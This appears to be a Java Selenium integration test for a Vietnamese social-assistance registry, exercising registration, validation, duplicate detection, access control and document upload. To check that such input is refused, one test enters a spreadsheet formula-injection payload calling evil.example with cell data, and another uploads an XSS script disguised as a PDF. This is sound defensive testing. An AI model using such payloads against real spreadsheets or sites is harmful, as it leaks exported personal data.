package vn.ansinh.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;
import vn.ansinh.devstack.DemoUser;

/**
 * A commune officer registers a person and a household end to end in the browser, sees bad values
 * refused next to their field, is warned of a likely duplicate, opens an application with a scanned
 * document; an officer of another commune cannot open that person even by URL.
 */
class RegistryBrowserIT {

    private ChromeDriver driver;
    private AnSinhPages pages;
    private TestDatabase db;

    @BeforeEach
    void startBrowser() {
        String appUrl = TestStack.app().appUrl();
        db = new TestDatabase(TestStack.app().database());
        driver = Browser.start();
        pages = new AnSinhPages(driver, appUrl);
    }

    @AfterEach
    void stopBrowser() {
        driver.quit();
    }

    @Test
    void anOfficerRegistersAPersonAndAHouseholdWithItsPovertyReview() {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, "/registry/person-form.xhtml");

        fill("person:fullName", "Lò Thị Mai");
        fill("person:birthDate", "15/03/1985");
        driver.findElement(By.cssSelector("label[for='person:sex:1']")).click();
        fill("person:personalId", "011185001234");
        fill("person:phone", "0912 345 678");
        fill("person:address", "Bản Co Cượm");
        save();

        assertThat(pages.text("page-title")).isEqualTo("Lò Thị Mai");
        assertThat(pages.text("personalId")).isEqualTo("011185001234");
        assertThat(pages.text("commune")).isEqualTo("Xã Tuần Giáo");
        Map<String, Object> row = db.row("select * from person where personal_id = '011185001234'");
        assertThat(row)
                .containsEntry("full_name", "Lò Thị Mai")
                .containsEntry("name_folded", "lo thi mai")
                .containsEntry("commune_code", "03253")
                .containsEntry("phone", "0912345678");
        assertThat(db.latestAudit("person.register"))
                .containsEntry("actor", "officer.tuangiao")
                .containsEntry("target_id", row.get("id").toString());

        fill("person:householdAddress", "Bản Co Cượm");
        driver.findElement(By.id("person:foundHousehold")).click();
        new WebDriverWait(driver, Duration.ofSeconds(15))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(d -> pages.path().equals("/registry/household.xhtml"));
        assertThat(pages.text("code")).startsWith("03253-");
        assertThat(pages.text("area")).isEqualTo("Nông thôn");

        fill("review:income_input", "1200000");
        for (String indicator : new String[] {"0", "2", "6"}) {
            driver.findElement(By.cssSelector("label[for='review:deprivations:" + indicator + "']"))
                    .click();
        }
        driver.findElement(By.id("review:record")).click();
        new WebDriverWait(driver, Duration.ofSeconds(15))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(d -> !d.findElements(By.cssSelector("#reviews .classification"))
                        .isEmpty());
        assertThat(pages.textOf(By.cssSelector("#reviews .classification"))).isEqualTo("Hộ nghèo");
    }

    @Test
    void badValuesAreRefusedNextToTheirFieldsAndWhatWasTypedStays() {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, "/registry/person-form.xhtml");

        fill("person:fullName", "Quàng Văn Pó");
        fill("person:birthDate", "31/02/1950");
        fill("person:personalId", "01105000123");
        fill("person:healthInsuranceCard", "ZZ4111234567890");
        save();

        assertThat(messageFor("person:birthDate")).isEqualTo("Tháng 2 năm 1950 không có ngày 31.");
        assertThat(messageFor("person:personalId")).contains("12 chữ số");
        assertThat(messageFor("person:sex")).isEqualTo("Vui lòng chọn giới tính.");
        assertThat(messageFor("person:healthInsuranceCard")).isNotBlank();
        assertThat(driver.findElement(By.id("person:fullName")).getAttribute("value"))
                .isEqualTo("Quàng Văn Pó");
        assertThat(db.row("select count(*) as n from person where full_name = 'Quàng Văn Pó'")
                        .get("n"))
                .isEqualTo(0L);
    }

    @Test
    void aNameOrAddressThatASpreadsheetWouldRunAsAFormulaIsRefusedNextToItsField() {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, "/registry/person-form.xhtml");
        String formula = "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")";

        fill("person:fullName", formula);
        fill("person:birthDate", "1975");
        driver.findElement(By.cssSelector("label[for='person:sex:0']")).click();
        fill("person:address", "@SUM(1+1)");
        save();

        assertThat(messageFor("person:fullName")).contains("Không được bắt đầu bằng dấu =, +, -, @");
        assertThat(messageFor("person:address")).contains("Không được bắt đầu bằng dấu =, +, -, @");
        assertThat(driver.findElement(By.id("person:fullName")).getAttribute("value"))
                .isEqualTo(formula);
        assertThat(db.row("select count(*) as n from person where full_name like '=HYPERLINK%'")
                        .get("n"))
                .isEqualTo(0L);
    }

    @Test
    void aSimilarPersonMustBeAcknowledgedAndAnExistingIdIsBlockedWithALink() {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, "/registry/person-form.xhtml");
        registerQuickly("Lường Văn Hặc", "1948", 0, "011048009876");

        pages.open("/registry/person-form.xhtml");
        registerQuickly("Luong Van Hac", "1948", 0, "");
        assertThat(pages.textOf(By.id("person:duplicates"))).contains("Lường Văn Hặc");
        driver.findElement(By.cssSelector("#person\\:acknowledged .ui-chkbox-box"))
                .click();
        new WebDriverWait(driver, Duration.ofSeconds(5))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(d -> d.findElement(By.id("person:acknowledged_input")).isSelected());
        save();
        assertThat(pages.text("page-title")).isEqualTo("Luong Van Hac");
        assertThat(db.latestAudit("person.register").get("after_value").toString())
                .contains("Luong Van Hac");
        assertThat(db.row(
                                "select count(*) as n from duplicate_suspect where status = 'OPEN' and commune_code = '03253'")
                        .get("n"))
                .isNotEqualTo(0L);

        pages.open("/registry/person-form.xhtml");
        registerQuickly("Lường Văn Khác", "1948", 0, "011048009876");
        assertThat(messageFor("person:personalId"))
                .isEqualTo("Số định danh này đã được đăng ký cho một người khác trong hệ thống.");
        assertThat(pages.waitFor(By.id("person:existing")).getAttribute("href")).contains("/registry/person.xhtml?id=");
    }

    @Test
    void anOfficerOfAnotherCommuneCannotOpenThePersonEvenByUrl() {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, "/registry/person-form.xhtml");
        registerQuickly("Cà Văn Lả", "1960", 0, "");
        String personId = pages.path().equals("/registry/person.xhtml")
                ? driver.getCurrentUrl().replaceAll(".*[?&]id=(\\d+).*", "$1")
                : null;
        assertThat(personId).isNotNull();
        driver.quit();

        driver = Browser.start();
        pages = new AnSinhPages(driver, TestStack.app().appUrl());
        pages.openAs(DemoUser.OFFICER_QUY_HOP, "/registry/person.xhtml?id=" + personId);

        // the same page as for a person who does not exist: the URL does not tell that the person exists elsewhere
        assertThat(pages.text("error-title")).isEqualTo("Không tìm thấy trang");
        assertThat(driver.getPageSource()).doesNotContain("Cà Văn Lả");
    }

    @Test
    void anApplicationGetsItsProgrammeFieldsAndAScannedDocument() throws Exception {
        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, "/registry/person-form.xhtml");
        registerQuickly("Tòng Thị Ín", "1940", 1, "");
        driver.findElement(By.id("person:apply")).click();

        selectOption("application:programme", "Bảo trợ xã hội");
        ensureOffered("application:category", "Người khuyết tật nặng, đặc biệt nặng", "application:programme");
        selectOption("application:category", "Người khuyết tật nặng, đặc biệt nặng");
        ensureOffered("application:fields:0:choice", "Đặc biệt nặng", "application:category");
        selectOption("application:fields:0:choice", "Đặc biệt nặng");
        driver.findElement(By.id("application:save")).click();
        new WebDriverWait(driver, Duration.ofSeconds(15))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(d -> d.getCurrentUrl().contains("application.xhtml?id="));

        Path scan = Files.createTempFile("giay-xac-nhan", ".pdf");
        Files.write(
                scan,
                "%PDF-1.4\n% giấy xác nhận khuyết tật\n%%EOF\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        driver.findElement(By.cssSelector("#upload input[type=file]")).sendKeys(scan.toString());
        new WebDriverWait(driver, Duration.ofSeconds(20))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(d -> !d.findElements(By.cssSelector("#documents a.document-link"))
                        .isEmpty());

        Path fake = Files.createTempFile("not-a-scan", ".pdf");
        Files.writeString(fake, "<html><script>alert(1)</script></html>");
        driver.findElement(By.cssSelector("#upload input[type=file]")).sendKeys(fake.toString());
        new WebDriverWait(driver, Duration.ofSeconds(20))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(d ->
                        d.findElement(By.id("upload:uploadMessages")).getText().contains("PDF, JPEG hoặc PNG"));

        driver.findElement(By.id("ready:markReady")).click();
        new WebDriverWait(driver, Duration.ofSeconds(15))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(d -> pages.text("status").equals("Đã chuyển xét duyệt"));
        Map<String, Object> application = db.row("select * from application order by id desc limit 1");
        assertThat(application)
                .containsEntry("programme", "SOCIAL_ASSISTANCE")
                .containsEntry("category", "DISABLED")
                .containsEntry("disability_level", "PARTICULARLY_SEVERE")
                .containsEntry("status", "READY");
        assertThat(db.row(
                                "select count(*) as n from application_document where application_id = ?",
                                application.get("id"))
                        .get("n"))
                .isEqualTo(1L);
    }

    private void registerQuickly(String name, String birth, int sexIndex, String personalId) {
        fill("person:fullName", name);
        fill("person:birthDate", birth);
        driver.findElement(By.cssSelector("label[for='person:sex:" + sexIndex + "']"))
                .click();
        fill("person:personalId", personalId);
        save();
    }

    private void save() {
        WebElement button = driver.findElement(By.id("person:save"));
        button.click();
        // the form is re-rendered (a refusal) or the page changes (saved): either way the old button goes
        new WebDriverWait(driver, Duration.ofSeconds(15))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(ExpectedConditions.stalenessOf(button));
        new WebDriverWait(driver, Duration.ofSeconds(15))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(d -> pages.path().equals("/registry/person.xhtml")
                        || !d.findElements(By.cssSelector(".ui-message-error, #person\\:duplicates"))
                                .isEmpty());
    }

    private void fill(String id, String value) {
        WebElement input = pages.waitFor(By.id(id));
        input.clear();
        input.sendKeys(value);
    }

    private String messageFor(String fieldId) {
        return new WebDriverWait(driver, Duration.ofSeconds(10))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(d -> {
                    var messages = d.findElements(By.cssSelector("[id='" + fieldId + "'] ~ .ui-message-error, "
                            + ".ui-message-error[id$='" + fieldId.substring(fieldId.indexOf(':') + 1) + "_message']"));
                    return messages.isEmpty() || messages.get(0).getText().isBlank()
                            ? null
                            : messages.get(0).getText();
                });
    }

    /** Picks an option of a PrimeFaces select menu, again if an ajax update replaced the menu meanwhile. */
    private void selectOption(String idPrefix, String label) {
        for (int attempt = 1; ; attempt++) {
            try {
                trySelectOption(idPrefix, label);
                return;
            } catch (org.openqa.selenium.StaleElementReferenceException e) {
                if (attempt == 3) {
                    throw e;
                }
            }
        }
    }

    private void trySelectOption(String idPrefix, String label) {
        awaitAjax();
        // a displayed menu that offers the option (an ajax update may still be refilling it)
        WebElement menu = new WebDriverWait(driver, Duration.ofSeconds(15))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(d -> d.findElements(By.cssSelector("[id^='" + idPrefix + "'].ui-selectonemenu")).stream()
                        .filter(m -> m.isDisplayed()
                                && m.findElements(By.xpath(".//option[normalize-space(.)='" + label + "']"))
                                                .size()
                                        > 0)
                        .reduce((a, b) -> b)
                        .orElse(null));
        String menuId = menu.getAttribute("id");
        WebElement item = null;
        for (int click = 1; item == null && click <= 3; click++) {
            // on a busy machine the first click can land before the widget is ready: open it again
            driver.findElement(By.id(menuId))
                    .findElement(By.cssSelector(".ui-selectonemenu-trigger"))
                    .click();
            try {
                item = new WebDriverWait(driver, Duration.ofSeconds(5))
                        .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                        .until(d -> d.findElements(By.cssSelector("[id='" + menuId + "_panel'] li")).stream()
                                .filter(li -> li.getText().equals(label) && li.isDisplayed())
                                .findFirst()
                                .orElse(null));
            } catch (org.openqa.selenium.TimeoutException e) {
                item = null;
            }
        }
        assertThat(item).as("option '" + label + "' of " + menuId).isNotNull();
        // the panel slides open: a click during the animation can land on another option
        new WebDriverWait(driver, Duration.ofSeconds(5))
                .until(d -> Boolean.TRUE.equals(driver.executeScript(
                        "return !jQuery(PrimeFaces.escapeClientId(arguments[0])).is(':animated');",
                        menuId + "_panel")));
        item.click();
        awaitAjax();
        if (!labelShows(menuId, label, 5)) {
            // the click did not reach the option (panel off screen or still moving): the widget's own API
            driver.executeScript(
                    "var id = arguments[0], label = arguments[1];"
                            + "var option = Array.from(document.getElementById(id + '_input').options)"
                            + "  .find(function (o) { return o.text === label; });"
                            + "PrimeFaces.getWidgetById(id).selectValue(option.value);",
                    menuId,
                    label);
            awaitAjax();
        }
        assertThat(labelShows(menuId, label, 10))
                .as("menu " + menuId + " shows " + label)
                .isTrue();
    }

    /**
     * Waits for a menu that an earlier selection's ajax update renders; if that update never came (a
     * change event lost on a busy machine), fires the earlier menu's change again through its widget.
     */
    private void ensureOffered(String idPrefix, String label, String earlierMenuId) {
        for (int attempt = 1; attempt <= 3; attempt++) {
            try {
                new WebDriverWait(driver, Duration.ofSeconds(8))
                        .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                        .until(d -> d.findElements(By.cssSelector("[id^='" + idPrefix + "'].ui-selectonemenu")).stream()
                                .anyMatch(m -> m.isDisplayed()
                                        && !m.findElements(By.xpath(".//option[normalize-space(.)='" + label + "']"))
                                                .isEmpty()));
                return;
            } catch (org.openqa.selenium.TimeoutException e) {
                driver.executeScript(
                        "var w = PrimeFaces.getWidgetById(arguments[0]);"
                                + "w.selectValue(document.getElementById(arguments[0] + '_input').value);"
                                + "jQuery(document.getElementById(arguments[0] + '_input')).trigger('change');",
                        earlierMenuId);
                awaitAjax();
            }
        }
        throw new AssertionError(idPrefix + " never offered " + label + " after choosing in " + earlierMenuId);
    }

    private boolean labelShows(String menuId, String label, int seconds) {
        try {
            new WebDriverWait(driver, Duration.ofSeconds(seconds))
                    .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                    .until(d -> d.findElement(By.id(menuId))
                            .findElement(By.cssSelector(".ui-selectonemenu-label"))
                            .getText()
                            .equals(label));
            return true;
        } catch (org.openqa.selenium.TimeoutException e) {
            return false;
        }
    }

    /** Waits until PrimeFaces has no ajax request queued or running. */
    private void awaitAjax() {
        new WebDriverWait(driver, Duration.ofSeconds(15))
                .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                .until(
                        d -> Boolean.TRUE.equals(
                                driver.executeScript(
                                        "return !!window.PrimeFaces && PrimeFaces.ajax.Queue.isEmpty() && (!window.jQuery || jQuery.active === 0);")));
    }
}
